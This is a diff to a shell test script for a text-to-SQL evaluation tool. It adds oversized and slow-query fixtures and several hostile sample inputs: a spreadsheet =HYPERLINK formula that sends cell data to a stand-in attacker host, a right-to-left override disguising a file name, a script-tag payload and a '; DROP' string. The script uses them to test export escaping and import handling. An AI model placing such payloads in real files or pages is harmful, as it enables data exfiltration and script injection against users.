@@ -69,6 +69,43 @@ w("ok.jsonl", case("SELECT count(*) FROM singer"))
 rnd = random.Random(16)
 w("random.json", bytes(rnd.getrandbits(8) for _ in range(2_000_000)))
 PY
+python3 - "$work/in" <<'PY'
+import json, os, sys
+d = sys.argv[1]
+def case(**kw):
+    base = {"db_id": "concert_singer", "question": "q", "gold_sql": "SELECT 1", "pred_sql": "SELECT 1"}
+    base.update(kw)
+    return json.dumps(base) + "\n"
+with open(os.path.join(d, "line_200mb.jsonl"), "w") as f:  # one record with a 200 MB SQL text
+    f.write(case(pred_sql="SELECT count(*) FROM singer WHERE name = '" + "x" * 200_000_000 + "'"))
+with open(os.path.join(d, "rows_1m.jsonl"), "w") as f:
+    for i in range(1_000_000):
+        a = i % 90
+        f.write(case(question=f"How many singers are older than {a}?",
+                     gold_sql=f"SELECT count(*) FROM singer WHERE age > {a}",
+                     pred_sql=f"SELECT count(*) FROM singer WHERE age >= {a}"))
+cte = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000000000) "
+with open(os.path.join(d, "slow_case.jsonl"), "w") as f:  # slow gold, slow prediction, cause repairs
+    f.write(case(gold_sql="SELECT count(*) FROM singer WHERE age > 30",
+                 pred_sql=cte + "SELECT count(*) FROM n, singer WHERE singer.age > 20"))
+with open(os.path.join(d, "decompose_slow.jsonl"), "w") as f:
+    joins = ", ".join(f"singer AS s{k}" for k in range(12))
+    f.write(case(gold_sql=f"SELECT count(*) FROM {joins} WHERE s0.age > 20 AND s1.age > 20 AND s2.age > 20"))
+with open(os.path.join(d, "formula.jsonl"), "w") as f:
+    f.write(case(id="f:1", question='=HYPERLINK("http://evil.example/?"&A1,"click")',
+                 gold_sql="SELECT count(*) FROM singer", pred_sql="SELECT count(*) FROM singer WHERE age > 1"))
+    f.write(case(id="f:2", question="How many\u0000 singers \u202egnp.exe?",
+                 gold_sql="SELECT count(*) FROM singer", pred_sql="SELECT count(*) FROM singer"))
+def annotation(**kw):
+    base = {"format": "hallusql-annotations", "version": 1, "run": "formula", "case_key": "f:1", "taxonomy": "", "category": "", "subcategory": "",
+            "reviewer": "eve", "verdict": "incorrect", "note": "", "created_at": "2026-01-01T00:00:00Z"}
+    base.update(kw)
+    return json.dumps(base) + "\n"
+for name, kw in {"note_10mb": {"note": "n" * 10_000_000}, "unknown_run": {"run": "ghost"},
+                 "free_verdict": {"verdict": "<script>pwned</script>"}, "nul_note": {"note": "fine\u0000; DROP"}}.items():
+    with open(os.path.join(d, name + ".jsonl"), "w") as f:
+        f.write(annotation(**kw))
+PY
 mkfifo "$work/in/fifo"
 cp "$DB" "$work/wal.sqlite" && python3 -c "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('PRAGMA journal_mode=WAL'); c.close()" "$work/wal.sqlite"
 cp "$DB" "$work/hot.sqlite" && printf 'hot journal bytes %.0s' {1..64} >"$work/hot.sqlite-journal"
@@ -313,6 +350,28 @@ row "evaluate --workspace = a symbolic link to W" "link followed, target written
 "$cli" workspace --create "$work/ws-out-mode.hallusql" >/dev/null
 "$cli" report --workspace "$W" --format html --out "$work/out-report.html" >/dev/null
 echo -e "  mode of a new workspace, and of a report\t0644\t-\t-\t-\t$(stat -c %a "$work/ws-out-mode.hallusql") and $(stat -c %a "$work/out-report.html")" >>"$ROWS"
+# imports, time limits, CSV and HTML (issue 29)
+row "evaluate: one 200 MB JSONL line" "73 s, 1.16 GB" 120 \
+  "$cli" evaluate --cases "$work/in/line_200mb.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl"
+row "evaluate: 1,000,000 JSONL rows (196 MB)" "103 s, 1.87 GB" 900 \
+  "$cli" evaluate --cases "$work/in/rows_1m.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl" --quiet
+row "evaluate --timeout-ms 1000: a case with a slow prediction and cause repairs" "3-5 s (a limit per statement)" 60 \
+  "$cli" evaluate --cases "$work/in/slow_case.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl" --timeout-ms 1000 --quiet
+row "drilldown decompose --timeout-ms 1000: a 12-way join" "no --timeout-ms (5 x 10 s)" 120 \
+  "$cli" drilldown decompose --cases "$work/in/decompose_slow.jsonl" --db-root "$work/dbroot" \
+  --out "$work/out.jsonl" --timeout-ms 1000
+WF=$work/ws-out-formula.hallusql
+"$cli" evaluate --cases "$work/in/formula.jsonl" --db-root "$work/dbroot" --out "$work/out.jsonl" \
+  --workspace "$WF" --run-name formula --quiet >/dev/null 2>&1
+"$cli" report --workspace "$WF" --format csv --out "$work/out-formula.csv" >/dev/null 2>&1
+live=$(grep -c '"=HYPERLINK' "$work/out-formula.csv")
+inert=$(grep -c "\"'=HYPERLINK" "$work/out-formula.csv")
+echo -e "  CSV export of a question =HYPERLINK(...)\tformula live in the cell\t-\t-\t-\tcells with a live formula: $live, neutralised with a quote: $inert" >>"$ROWS"
+"$cli" report --workspace "$WF" --format html --out "$work/out-formula.html" >/dev/null 2>&1
+echo -e "  HTML report of a question with NUL and U+202E\tNUL and RLO in the page\t-\t-\t-\tNUL bytes: $(tr -cd '\000' <"$work/out-formula.html" | wc -c), raw U+202E: $(grep -c $'\u202e' "$work/out-formula.html"), shown as: $(grep -o '&lt;U+202E&gt;' "$work/out-formula.html" | head -1)" >>"$ROWS"
+for f in note_10mb unknown_run free_verdict nul_note; do
+  row "annotations import: $f" "accepted" 30 "$cli" annotations import --workspace "$WF" --in "$work/in/$f.jsonl"
+done
 # A PDF export killed while Chromium prints (a stand-in that never ends): nothing may outlive it.
 printf '#!/bin/sh\nwhile :; do sleep 0.1; done\n' >"$work/meta/slow-chromium"
 chmod +x "$work/meta/slow-chromium"
